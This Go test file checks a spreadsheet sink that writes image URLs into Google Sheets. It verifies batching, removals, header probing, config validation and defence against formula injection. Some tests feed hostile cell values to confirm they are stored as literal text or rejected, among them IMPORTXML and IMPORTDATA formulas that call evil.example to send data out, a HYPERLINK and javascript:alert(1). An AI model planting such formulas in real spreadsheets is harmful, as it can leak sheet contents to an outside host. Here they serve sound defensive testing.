package sheets_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/pictifyd/pictifyd/config"
	"github.com/pictifyd/pictifyd/connectors"
	sheetsource "github.com/pictifyd/pictifyd/connectors/sheets"
	"github.com/pictifyd/pictifyd/connectors/sheets/sheetstest"
	"github.com/pictifyd/pictifyd/internal/problem"
	"github.com/pictifyd/pictifyd/internal/retry"
	"github.com/pictifyd/pictifyd/sink"
	"github.com/pictifyd/pictifyd/sink/sheets"
	"github.com/pictifyd/pictifyd/sink/sinktest"
)

func TestMain(m *testing.M) {
	sheets.Hurry()
	m.Run()
}

// A stage is a spreadsheet with a table, and the sink of one of its columns.
type stage struct {
	tb     testing.TB
	e      *sheetstest.Emulator
	sheet  *sheetstest.Sheet
	source *sheetsource.Config
	cfg    *sheets.Config
	opened sink.Sink
}

// newStage has the columns sku, Title and Image URL, and a row of each key.
func newStage(tb testing.TB, keys ...string) *stage {
	tb.Helper()
	s := &stage{tb: tb, e: sheetstest.New(sheetstest.Options{Anonymous: true})}
	rows := [][]any{{"sku", "Title", "Image URL"}}
	for _, key := range keys {
		rows = append(rows, []any{key, "title of " + key})
	}
	s.sheet = s.e.Add("BOOK", "Shop").AddSheet("Products", rows...)
	s.source = sheetsource.Kind.Config().(*sheetsource.Config)
	s.source.Spreadsheet, s.source.Range, s.source.Key = "BOOK", config.Strings{"Products!A:H"}, config.Strings{"sku"}
	s.source.Endpoint = sheetstest.Serve(tb, s.e)
	s.cfg = sheets.Kind.Config().(*sheets.Config)
	s.cfg.Source, s.cfg.Column = "goods", "Image URL"
	return s
}

// sink opens the sink, once.
func (s *stage) sink() sink.Batcher {
	s.tb.Helper()
	if s.opened == nil {
		var err error
		s.opened, err = sheets.Kind.New(s.cfg, sink.Env{Name: "back", Source: func(name string) connectors.Config {
			if name != "goods" {
				return nil
			}
			return s.source
		}})
		if err != nil {
			s.tb.Fatalf("open the sink: %v", err)
		}
		s.tb.Cleanup(func() { _ = s.opened.(interface{ Close() error }).Close() })
	}
	return s.opened.(sink.Batcher)
}

// deliver delivers, within a time that a turn may take.
func (s *stage) deliver(ds ...sink.Delivery) []sink.Outcome {
	s.tb.Helper()
	b := s.sink()
	ctx, cancel := context.WithTimeout(s.tb.Context(), 10*time.Second)
	defer cancel()
	return b.DeliverAll(ctx, ds)
}

func (s *stage) must(ds ...sink.Delivery) {
	s.tb.Helper()
	for i, o := range s.deliver(ds...) {
		if o.Err != nil {
			s.tb.Fatalf("deliver %s: %v", ds[i].Key, o.Err)
		}
	}
}

// cells are the column's, by key. It fails where a key is there twice.
func (s *stage) cells() map[string]any {
	s.tb.Helper()
	all := map[string]any{}
	head := map[any]string{}
	for _, letter := range []string{"A", "B", "C", "D", "E"} {
		head[s.sheet.Entered(letter+"1")] = letter
	}
	for row := 2; row < 1200; row++ {
		key := s.sheet.Entered(fmt.Sprintf("%s%d", head["sku"], row))
		if v := s.sheet.Entered(fmt.Sprintf("%s%d", head["Image URL"], row)); key != nil || v != nil {
			all[fmt.Sprint(key)] = v
		}
	}
	return all
}

func (s *stage) want(want map[string]any) {
	s.tb.Helper()
	if diff := cmp.Diff(want, s.cells()); diff != "" {
		s.tb.Errorf("the column (-want +got):\n%s", diff)
	}
}

func (s *stage) calls(method string) int {
	n := 0
	for _, c := range s.e.Calls() {
		if c.Method == method {
			n++
		}
	}
	return n
}

func urlOf(generation int64) string {
	return fmt.Sprintf("https://img.example/images/hash-%d.png", generation)
}

func completed(generation int64, keys ...string) (ds []sink.Delivery) {
	for _, key := range keys {
		ds = append(ds, sinktest.Completed(key, generation))
	}
	return ds
}

func removed(key string) sink.Delivery {
	d := sinktest.Completed(key, 9)
	d.Event = sink.ImageRemoved
	return d
}

// A gathered sink is told of what comes at the same time at once, as the daemon does.
type gathered struct {
	sink.Batcher

	mu   sync.Mutex
	open *gathering
}

type gathering struct {
	ds    []sink.Delivery
	done  chan struct{}
	ended []sink.Outcome
}

func (g *gathered) Deliver(ctx context.Context, d sink.Delivery) (sink.Receipt, error) {
	if _, ok := ctx.Deadline(); !ok {
		return g.Batcher.Deliver(ctx, d)
	}
	g.mu.Lock()
	mine := g.open
	leads := mine == nil
	if leads {
		mine = &gathering{done: make(chan struct{})}
		g.open = mine
	}
	at := len(mine.ds)
	mine.ds = append(mine.ds, d)
	g.mu.Unlock()
	if leads {
		time.Sleep(10 * time.Millisecond)
		g.mu.Lock()
		g.open = nil
		g.mu.Unlock()
		mine.ended = g.DeliverAll(ctx, mine.ds)
		close(mine.done)
	}
	<-mine.done
	return mine.ended[at].Receipt, mine.ended[at].Err
}

func TestSheetKeepsTheSinksPromise(t *testing.T) {
	sinktest.Run(t, func(tb testing.TB) sinktest.Subject {
		keys := []string{"a", "b", "../../x", "ключ", "a b&c=<d>", "%"}
		for i := range 30 {
			keys = append(keys, fmt.Sprintf("key-%d", i))
		}
		s := newStage(tb, keys...)
		var mu sync.Mutex
		effects := map[string]int{}
		s.sheet.OnEdit(func(e sheetstest.Edit) {
			mu.Lock()
			defer mu.Unlock()
			effects[fmt.Sprint(e.Value(1))]++
		})
		return sinktest.Subject{
			Sink: &gathered{Batcher: s.sink()},
			Holds: func(key string) string {
				url, _ := s.cells()[key].(string)
				return strings.TrimSuffix(strings.TrimPrefix(url, "https://img.example/images/"), ".png")
			},
			Effects: func(key string) int {
				mu.Lock()
				defer mu.Unlock()
				return effects[key]
			},
			Break: func(f sinktest.Fault) (func(), bool) {
				hung := make(chan struct{})
				switch f {
				case sinktest.Down:
					s.e.Hook(func(sheetstest.Call) *sheetstest.Failure { return &sheetstest.Failure{Status: 503, Message: "down"} })
				case sinktest.Hung:
					s.e.Hook(func(sheetstest.Call) *sheetstest.Failure { <-hung; return nil })
				default:
					return nil, false
				}
				return func() {
					s.e.Hook(nil)
					close(hung)
				}, true
			},
		}
	})
}

func TestManyRowsAreAFewRequests(t *testing.T) {
	keys := make([]string, 1000)
	want := map[string]any{}
	for i := range keys {
		keys[i] = fmt.Sprintf("sku-%04d", i)
		want[keys[i]] = urlOf(1)
	}
	s := newStage(t, keys...)
	s.must(completed(1, keys...)...)
	s.want(want)
	if n := len(s.e.Calls()); n > 6 || s.calls("values.batchUpdate") != 1 {
		t.Errorf("%d requests, %d of them writes, want a few and one", n, s.calls("values.batchUpdate"))
	}
	if most, linger := s.sink().Batch(); most < 1000 || linger < 500*time.Millisecond {
		t.Errorf("a batch takes %d and waits %v", most, linger)
	}
}

func TestCellsThatAreAsTheyShouldBeAreNotWritten(t *testing.T) {
	s := newStage(t, "a", "b", "c")
	s.must(completed(1, "a", "b", "c")...)
	edits := 0
	s.sheet.OnEdit(func(sheetstest.Edit) { edits++ })
	s.must(completed(1, "a", "b", "c")...)
	if n := s.calls("values.batchUpdate"); n != 1 || edits != 0 {
		t.Errorf("%d writes, %d edits of what was there", n, edits)
	}
	s.must(append(completed(1, "a", "b"), completed(2, "c")...)...)
	if edits != 1 {
		t.Errorf("%d cells were written for one that changed", edits)
	}
	s.want(map[string]any{"a": urlOf(1), "b": urlOf(1), "c": urlOf(2)})
}

// Nothing that a row holds may be calculated in the sheet.
func TestAValueIsNeverAFormula(t *testing.T) {
	for _, value := range []string{
		`=IMPORTXML("https://evil.example/"&A2,"//x")`, `=1+1`, `+1`, `-1`, `@SUM(1)`, `'=1+1`, "\t=1+1", "1/2", "TRUE", "007", `=HYPERLINK("https://evil.example","x")`,
	} {
		s := newStage(t, "a")
		s.cfg.Value = "row.note"
		d := sinktest.Completed("a", 1)
		d.Row["note"] = value
		s.must(d, d)
		s.want(map[string]any{"a": value})
		if n := s.calls("values.batchUpdate"); n != 1 {
			t.Errorf("%q was written %d times", value, n)
		}
	}
}

func TestAnImageFormulaHoldsNothingButTheAddress(t *testing.T) {
	s := newStage(t, "a", "b", "c", "d")
	s.cfg.Formula, s.cfg.Value = "image", "row.address"
	deliver := func(key, address string) error {
		d := sinktest.Completed(key, 1)
		d.Row["address"] = address
		return s.deliver(d)[0].Err
	}
	if err := deliver("a", "https://img.example/a.png"); err != nil {
		t.Fatal(err)
	}
	if err := deliver("b", `https://img.example/b.png?q="&IMPORTDATA("https://evil.example")&"`); err != nil {
		t.Fatal(err)
	}
	for key, bad := range map[string]string{"c": `=IMPORTDATA("x")`, "d": "javascript:alert(1)"} {
		if err := deliver(key, bad); !retry.IsPermanent(err) || !strings.Contains(err.Error(), `column "Image URL" of row "`+key) {
			t.Errorf("%s: %v", bad, err)
		}
	}
	s.want(map[string]any{
		"a": `=IMAGE("https://img.example/a.png")`,
		"b": `=IMAGE("https://img.example/b.png?q=""&IMPORTDATA(""https://evil.example"")&""")`,
		"c": nil, "d": nil,
	})
	writes := s.calls("values.batchUpdate")
	if err := deliver("a", "https://img.example/a.png"); err != nil || s.calls("values.batchUpdate") != writes {
		t.Errorf("what stands there was written again, %v", err)
	}
}

func TestSeveralColumnsAreWrittenAtOnce(t *testing.T) {
	s := newStage(t, "a", "b")
	s.sheet.Write("D1", "Width", "Seen")
	s.cfg.Column, s.cfg.Set = "", map[string]string{"Image URL": "url", "Width": "width", "Seen": "width > 100"}
	s.must(completed(1, "a", "b")...)
	s.must(completed(1, "a", "b")...)
	if s.sheet.Entered("C2") != urlOf(1) || s.sheet.Entered("D3") != 1200.0 || s.sheet.Entered("E2") != true || s.calls("values.batchUpdate") != 1 {
		t.Errorf("%v %v %v, %d writes", s.sheet.Entered("C2"), s.sheet.Entered("D3"), s.sheet.Entered("E2"), s.calls("values.batchUpdate"))
	}
}

// before has something done to the sheet right before the n-th write of a cell: rows
// have been read by then.
func (s *stage) before(n int, do func()) {
	s.e.Hook(func(c sheetstest.Call) *sheetstest.Failure {
		if c.Method == "values.batchUpdate" && c.Number == n {
			do()
		}
		return nil
	})
}

func (s *stage) races() int64 { return s.sink().(sink.Counter).Counts()[sink.WriteRaces] }

func TestARowThatIsNotThereIsNamed(t *testing.T) {
	s := newStage(t, "a", "twice", "twice", "b")
	ended := s.deliver(append(completed(1, "a", "none", "twice", "b"), removed("gone"))...)
	for i, want := range []string{"", `the sheet has no row "none"`, `the key "twice" is in the sheet twice, at Products!C3 and Products!C4`, "", ""} {
		switch err := ended[i].Err; {
		case want == "" && err != nil:
			t.Errorf("delivery %d: %v", i, err)
		case want != "" && (!retry.IsPermanent(err) || !strings.Contains(err.Error(), want)):
			t.Errorf("delivery %d: %v, want %q", i, err, want)
		}
	}
	for i, want := range map[int]string{1: "target_missing", 2: "target_ambiguous"} {
		var p *problem.Error
		if !errors.As(ended[i].Err, &p) || p.Slug != want {
			t.Errorf("delivery %d: %v, want %s", i, ended[i].Err, want)
		}
	}
	if ended[3].Ref != "Products!C5" {
		t.Errorf("b is said to be at %q", ended[3].Ref)
	}
	if s.sheet.Entered("C2") != urlOf(1) || s.sheet.Entered("C5") != urlOf(1) {
		t.Error("the others were not written")
	}
	// It may be there, and cannot be read now.
	s.sheet.Write("A2", sheetstest.Formula{Text: "=X1", Value: sheetstest.Error("#REF!")})
	if err := s.deliver(completed(2, "a")...)[0].Err; err == nil || retry.IsPermanent(err) {
		t.Errorf("a key that is an error: %v", err)
	}
}

func TestKeysAreFoundAsTheSourceReadsThem(t *testing.T) {
	s := newStage(t)
	s.sheet.Set([]any{"sku", "Image URL", "day"},
		[]any{7, nil, time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)},
		[]any{sheetstest.Formula{Text: `="a"&"b"`, Value: "ab"}, nil, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)},
		[]any{"007", nil, "x,y"})
	for _, formula := range []string{"", "image"} {
		t.Run("formula "+formula, func(t *testing.T) {
			s.source.Key, s.opened, s.cfg.Formula = config.Strings{"sku", "day"}, nil, formula
			s.must(completed(1, "7,2026-03-01", "ab,2026-03-02", "007,x%2Cy")...)
			for _, at := range []string{"B2", "B3", "B4"} {
				if v, _ := s.sheet.Entered(at).(string); !strings.Contains(v, urlOf(1)) {
					t.Errorf("%s is %v", at, v)
				}
			}
		})
	}
}

func TestARemovalClearsOrKeeps(t *testing.T) {
	s := newStage(t, "a", "b")
	s.must(completed(1, "a", "b")...)
	s.must(removed("a"))
	s.want(map[string]any{"a": nil, "b": urlOf(1)})
	s.cfg.OnRemove, s.opened = "keep", nil
	s.must(removed("b"))
	s.want(map[string]any{"a": nil, "b": urlOf(1)})
}

func TestTwoBindingsOfOneRowWriteOneAfterTheOther(t *testing.T) {
	s := newStage(t, "a")
	s.must(append(completed(1, "a"), completed(2, "a")...)...)
	s.want(map[string]any{"a": urlOf(2)})
}

func TestAPictureThatFailedLeavesTheOneBefore(t *testing.T) {
	s := newStage(t, "a")
	s.must(completed(1, "a")...)
	d := sinktest.Completed("a", 2)
	d.Outputs = []sink.Output{{Name: "card", Code: "x", Error: "no"}}
	s.must(d)
	s.want(map[string]any{"a": urlOf(1)})
}

func TestTheProbeReadsTheHeader(t *testing.T) {
	s := newStage(t, "a")
	p := s.sink().(sink.Prober)
	if err := p.Probe(t.Context()); err != nil {
		t.Error(err)
	}
	s.sheet.Write("C1", "Other")
	if err := p.Probe(t.Context()); err == nil || !strings.Contains(err.Error(), `"Image URL" is not in the header`) {
		t.Errorf("probe = %v", err)
	}
	if n := s.calls("values.batchUpdate"); n != 0 {
		t.Errorf("a probe wrote %d times", n)
	}
}

func TestWhatCannotBeIsNamed(t *testing.T) {
	for want, change := range map[string]func(*sheets.Config){
		"source: a sheets sink needs a source":            func(c *sheets.Config) { c.Source = "" },
		"column: a sheets sink needs a column":            func(c *sheets.Config) { c.Column = "" },
		"set: column and set are both given":              func(c *sheets.Config) { c.Set = map[string]string{"a": "url"} },
		`formula: there is no formula "imgae"`:            func(c *sheets.Config) { c.Formula = "imgae" },
		`on_remove: there is no way "drop"`:               func(c *sheets.Config) { c.OnRemove = "drop" },
		"value: ":                                         func(c *sheets.Config) { c.Value = "urll" },
		"set.Image: ":                                     func(c *sheets.Config) { c.Column, c.Set = "", map[string]string{"Image": "url +"} },
		`set. Image: the column " Image" has white space`: func(c *sheets.Config) { c.Column, c.Set = "", map[string]string{" Image": "url"} },
		`events[0]: "render.done" is not an event`:        func(c *sheets.Config) { c.Events = config.Strings{"render.done"} },
	} {
		cfg := newStage(t).cfg
		change(cfg)
		if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %q", err, want)
		}
	}
	if err := newStage(t).cfg.Validate(); err != nil {
		t.Error(err)
	}
}

func TestASourceThatCannotServeIsNamed(t *testing.T) {
	s := newStage(t)
	for want, change := range map[string]func(*sheetsource.Config){
		"":                     func(*sheetsource.Config) {},
		"which can't write":    func(c *sheetsource.Config) { c.APIKey = config.NewSecret("k") },
		"is the key of source": func(c *sheetsource.Config) { c.Key = config.Strings{"Image URL"} },
	} {
		source := *s.source
		change(&source)
		err := s.cfg.CheckSource(&source)
		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
			t.Errorf("%v, want %q", err, want)
		}
	}
	if names := s.cfg.WritesBack("goods", s.source); !slices.Equal(names, []string{"Image URL"}) {
		t.Errorf("it writes %q", names)
	}
	if names := s.cfg.WritesBack("other", s.source); names != nil {
		t.Errorf("of another source it writes %q", names)
	}
	s.cfg.Source = "none"
	if _, err := sheets.Kind.New(s.cfg, sink.Env{Source: func(string) connectors.Config { return nil }}); err == nil {
		t.Error("a source that there is not")
	}
}

func TestHostileValuesAreWrittenOrRefused(t *testing.T) {
	s := newStage(t, "a")
	s.cfg.Value = "row.v"
	sinktest.Hostile(t, s.sink())
}
